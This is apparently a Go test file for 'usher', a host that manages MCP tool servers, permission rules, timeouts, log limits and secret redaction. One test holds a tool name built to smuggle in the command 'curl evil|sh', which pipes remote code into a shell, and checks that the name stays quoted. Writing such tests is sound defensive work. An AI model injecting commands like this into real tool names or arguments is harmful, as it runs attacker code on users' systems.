package usher_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/usher-mcp/usher"
	"github.com/usher-mcp/usher/event/eventtest"
	"github.com/usher-mcp/usher/fault"
	"github.com/usher-mcp/usher/mcp"
	"github.com/usher-mcp/usher/permission"
	"github.com/usher-mcp/usher/transport/local"
)

// openWith opens a host with servers of this process, each a Handler.
func openWith(t *testing.T, o usher.Options, servers map[string]mcp.Handler) (*usher.Host, *usher.Session, *eventtest.Log) {
	t.Helper()
	log := new(eventtest.Log)
	o.Log, o.HostSession = log, "s_host"
	for name, h := range servers {
		o.Servers = append(o.Servers, usher.Server{Name: name, Transport: local.New(h), Kind: "stdio", TrustHints: true})
	}
	h, err := usher.Open(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = h.Close() })
	s, err := h.Session(usher.SessionOptions{Client: "test"})
	if err != nil {
		t.Fatal(err)
	}
	return h, s, log
}

// A4: a tool's name never gets out of the quotes of a command that we tell a person to run.
func TestNamesInHintsAreQuoted(t *testing.T) {
	name := `x'; curl evil|sh; '`
	f := &fake{tools: `{"name":` + string(mcp.Quote(name)) + `,"inputSchema":{"type":"object"}},{"name":"*","inputSchema":{"type":"object"}},{"name":"a\u0007b","inputSchema":{"type":"object"}}`}
	h, s, _ := openWith(t, usher.Options{}, map[string]mcp.Handler{"evil": f})
	h.Ready(t.Context())
	_, err := s.Call(t.Context(), "mcp.evil."+name, nil)
	if want := `usher allow 'mcp.evil.x'\''; curl evil|sh; '\'''`; err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("got  %v\nwant … %s", err, want)
	}
	if n := len(s.Tools()); n != 1 {
		t.Errorf("%d tools: names with a * or a control character must not be offered", n)
	}
}

// F3, E1: a deny rule may name a tool as it is listed for models.
func TestDenyByTheListedName(t *testing.T) {
	policy := new(permission.Policy)
	f := &fake{tools: `{"name":"get.issue","inputSchema":{"type":"object"},"annotations":{"readOnlyHint":true}}`}
	h, s, _ := openWith(t, usher.Options{Policy: func() *permission.Policy { return policy }}, map[string]mcp.Handler{"gh": f})
	h.Ready(t.Context())
	listed := s.Tools()[0].Model
	policy = &permission.Policy{Deny: []permission.Rule{{Pattern: listed, Scope: "user"}}}
	if _, err := s.Call(t.Context(), listed, nil); fault.KindOf(err) != fault.PermissionDenied {
		t.Errorf("%s: %v", listed, err)
	}
	if len(s.Tools()) != 0 {
		t.Error("it is still shown")
	}
}

// F5: an answer is about the tool and the rules that the question showed.
func TestWhatChangesWhileAQuestionIsOpen(t *testing.T) {
	for name, change := range map[string]func(w *world){
		"a deny rule": func(w *world) { w.policy = &permission.Policy{Deny: []permission.Rule{{Pattern: "mcp.jira.post"}}} },
	} {
		w := open(t)
		w.answer = func(permission.Question) (permission.Answer, error) {
			change(w)
			return permission.Answer{Allow: true}, nil
		}
		if _, err := w.Call(t.Context(), "mcp.jira.post", nil); fault.KindOf(err) != fault.PermissionDenied || w.jira.calls.Load() != 0 {
			t.Errorf("%s: %v, %d calls", name, err, w.jira.calls.Load())
		}
	}
}

// F6: a denied tool doesn't tell what arguments it takes, and its refusal is a decision in the log.
func TestDeniedToolTellsNothing(t *testing.T) {
	w := open(t)
	w.policy = &permission.Policy{Deny: []permission.Rule{{Pattern: "mcp.jira.get", Scope: "user"}}}
	_, err := w.Call(t.Context(), "mcp.jira.get", nil)
	if fault.KindOf(err) != fault.PermissionDenied || strings.Contains(err.Error(), "key") {
		t.Errorf("got %v", err)
	}
	want := []string{"model.tool_call_requested", "permission.requested", "permission.resolved", "tool.failed"}
	if diff := cmp.Diff(want, w.types(1)); diff != "" {
		t.Error(diff)
	}
}

// E3: only reads of local tools run without a question.
func TestLocalToolsAskToo(t *testing.T) {
	w := open(t)
	if _, err := w.Call(t.Context(), "local.read_file", nil); fault.KindOf(err) != fault.ApprovalRequired {
		t.Errorf("a local tool without hints: %v", err)
	}
	if _, err := w.Call(t.Context(), "local.get", []byte(`{"key":"x"}`)); err != nil {
		t.Errorf("a local read: %v", err)
	}
}

// E2: a denied local tool is no candidate, and no refusal names it.
func TestDeniedLocalToolIsNoCandidate(t *testing.T) {
	w := open(t)
	w.policy = &permission.Policy{Deny: []permission.Rule{{Pattern: "local.read_file"}}}
	_, err := w.Call(t.Context(), "read_file", nil)
	if fault.KindOf(err) != fault.NotFound || strings.Contains(err.Error(), "local.read_file") {
		t.Errorf("got %v", err)
	}
}

// A5, C8: servers that hang while they start keep no others from starting.
func TestHungServersDelayNobody(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		hang := mcp.HandlerFunc(func(ctx context.Context, _ *mcp.Message, _ mcp.Peer) (*mcp.Message, error) {
			<-ctx.Done()
			return nil, ctx.Err()
		})
		servers := map[string]mcp.Handler{}
		for i := range 6 {
			servers[fmt.Sprintf("hung%d", i)] = hang
		}
		servers["good"] = &fake{tools: readTool}
		_, s, _ := openWith(t, usher.Options{}, servers)
		begun := time.Now()
		if _, err := s.Call(t.Context(), "mcp.good.get", []byte(`{"key":"x"}`)); err != nil {
			t.Error(err)
		}
		if took := time.Since(begun); took > 15*time.Second {
			t.Errorf("it took %v", took)
		}
	})
}

// A5, H4: what a server says without end, or in the wrong shape, stays small in the log.
func TestFloodsStaySmall(t *testing.T) {
	w := open(t)
	big := strings.Repeat("x", 1<<20)
	w.jira.do = func(string, json.RawMessage) *mcp.Message {
		blocks := strings.TrimSuffix(strings.Repeat(`{"type":"text","text":"a"},`, 100_000), ",")
		return &mcp.Message{Result: json.RawMessage(`{"content":[` + blocks + `]}`)}
	}
	begun := time.Now()
	if _, err := w.Call(t.Context(), "mcp.jira.get", json.RawMessage(`{"key":`+string(mcp.Quote(big))+`}`)); err != nil {
		t.Fatal(err)
	}
	if took := time.Since(begun); took > 20*time.Second {
		t.Errorf("a result of many blocks took %v", took)
	}
	for _, e := range w.log.Events(w.ID()) {
		if len(e.Data) > 10<<10 {
			t.Errorf("%s has %d bytes", e.Type, len(e.Data))
		}
	}
}

// G4: a secret that lies across the border of a preview leaves no part of itself.
func TestSecretAtTheCutOfAPreview(t *testing.T) {
	const token = "SECRETTOKEN1234567890"
	f := &fake{tools: readTool}
	redact := func(b []byte) []byte { return []byte(strings.ReplaceAll(string(b), token, "[redacted:1]")) }
	h, s, log := openWith(t, usher.Options{Redact: redact}, map[string]mcp.Handler{"s": f})
	h.Ready(t.Context())
	for pad := 440; pad < 520; pad++ { // the arguments have a few bytes before the text
		text := strings.Repeat("x", pad) + token + strings.Repeat("y", 9<<10)
		f.do = func(string, json.RawMessage) *mcp.Message { return &mcp.Message{Result: mcp.TextResult(text, false)} }
		if _, err := s.Call(t.Context(), "mcp.s.get", json.RawMessage(`{"key":`+string(mcp.Quote(text))+`}`)); err != nil {
			t.Fatal(err)
		}
	}
	for _, e := range log.Events(s.ID()) {
		if strings.Contains(string(e.Data), "SECRET") {
			t.Errorf("%s shows a part of it: %.80s", e.Type, e.Data)
		}
	}
}

// H2, H5: a log that can't be waited for leaves a chain with all its ends.
func TestChainWhenWaitingFails(t *testing.T) {
	w := open(t)
	w.policy = &permission.Policy{Allow: []permission.Rule{{Pattern: "*"}}}
	w.log.Fail(nil, errors.New("the disk is full"))
	_, _ = w.Call(t.Context(), "mcp.jira.post", nil)
	want := []string{"mcp.call.started", "tool.started", "mcp.call.failed", "tool.failed"}
	if diff := cmp.Diff(want, w.types(4)); diff != "" {
		t.Error(diff)
	}
}

// Close of the host ends calls of local tools, too, and so does the end of the context that the host was opened with.
func TestHostEndsCallsInFlight(t *testing.T) {
	for _, how := range []string{"close", "context"} {
		began := make(chan struct{})
		f := mcp.HandlerFunc(func(ctx context.Context, req *mcp.Message, p mcp.Peer) (*mcp.Message, error) {
			if req.Method != mcp.MethodCallTool {
				return (&fake{tools: readTool}).Handle(ctx, req, p)
			}
			close(began)
			<-ctx.Done()
			return nil, ctx.Err()
		})
		ctx, cancel := context.WithCancel(t.Context())
		h, err := usher.Open(ctx, usher.Options{Local: f, Log: new(eventtest.Log)})
		if err != nil {
			t.Fatal(err)
		}
		s, err := h.Session(usher.SessionOptions{CallTimeout: time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		ended := make(chan error, 1)
		go func() {
			_, err := s.Call(context.Background(), "local.get", []byte(`{"key":"k"}`))
			ended <- err
		}()
		<-began
		if how == "context" {
			cancel()
		} else {
			_ = h.Close()
		}
		if err := <-ended; fault.KindOf(err) != fault.Cancelled {
			t.Errorf("%s: %v", how, err)
		}
		_ = h.Close()
		cancel()
		if _, err := h.Session(usher.SessionOptions{}); !errors.Is(err, usher.ErrClosed) {
			t.Errorf("%s: a new session: %v", how, err)
		}
	}
}

// H2, H4: a long JSON-RPC error is short in the log, and the chain has its end.
func TestLongErrorIsShortInTheLog(t *testing.T) {
	w := open(t)
	w.jira.do = func(string, json.RawMessage) *mcp.Message {
		return mcp.ErrorAnswer("", -32000, strings.Repeat("x", 1<<20), nil)
	}
	if _, err := w.Call(t.Context(), "mcp.jira.get", []byte(`{"key":"k"}`)); fault.KindOf(err) != fault.ServerError {
		t.Errorf("got %v", err)
	}
	for _, e := range w.log.Events(w.ID()) {
		if len(e.Data) > 4<<10 {
			t.Errorf("%s has %d bytes", e.Type, len(e.Data))
		}
	}
	if diff := cmp.Diff([]string{"mcp.call.failed", "tool.failed"}, w.types(6)); diff != "" {
		t.Error(diff)
	}
}

// A host that is opened with a context that has ended closes itself.
func TestOpenWithAnEndedContext(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for range 20 {
		h, err := usher.Open(ctx, usher.Options{Log: new(eventtest.Log)})
		if err != nil {
			continue
		}
		_ = h.Close()
		if _, err := h.Session(usher.SessionOptions{}); !errors.Is(err, usher.ErrClosed) {
			t.Errorf("a session: %v", err)
		}
	}
}

// D2: a session's own time-out wins over the entry's, and a limit over both.
func TestTimeouts(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		hang := mcp.HandlerFunc(func(ctx context.Context, req *mcp.Message, p mcp.Peer) (*mcp.Message, error) {
			if req.Method == mcp.MethodCallTool {
				<-ctx.Done()
				return nil, ctx.Err()
			}
			return (&fake{tools: readTool}).Handle(ctx, req, p)
		})
		h, err := usher.Open(t.Context(), usher.Options{Log: new(eventtest.Log), Servers: []usher.Server{
			{Name: "own", Transport: local.New(hang), Kind: "stdio", TrustHints: true, CallTimeout: 2 * time.Minute},
			{Name: "plain", Transport: local.New(hang), Kind: "stdio", TrustHints: true},
		}})
		if err != nil {
			t.Fatal(err)
		}
		defer h.Close()
		for _, c := range []struct {
			o      usher.SessionOptions
			server string
			want   time.Duration
		}{
			{usher.SessionOptions{}, "plain", 30 * time.Second},
			{usher.SessionOptions{}, "own", 2 * time.Minute},
			{usher.SessionOptions{CallTimeout: 5 * time.Minute}, "own", 5 * time.Minute},
			{usher.SessionOptions{CallLimit: 10 * time.Minute}, "plain", 10 * time.Minute},
			{usher.SessionOptions{CallLimit: 10 * time.Minute}, "own", 2 * time.Minute},
			{usher.SessionOptions{CallLimit: time.Minute}, "own", time.Minute},
		} {
			s, err := h.Session(c.o)
			if err != nil {
				t.Fatal(err)
			}
			begun := time.Now()
			_, err = s.Call(t.Context(), "mcp."+c.server+".get", []byte(`{"key":"k"}`))
			if took := time.Since(begun); fault.KindOf(err) != fault.Timeout || took != c.want {
				t.Errorf("%+v, %s: %v after %v, want %v", c.o, c.server, err, took, c.want)
			}
			s.Close("closed")
		}
	})
}
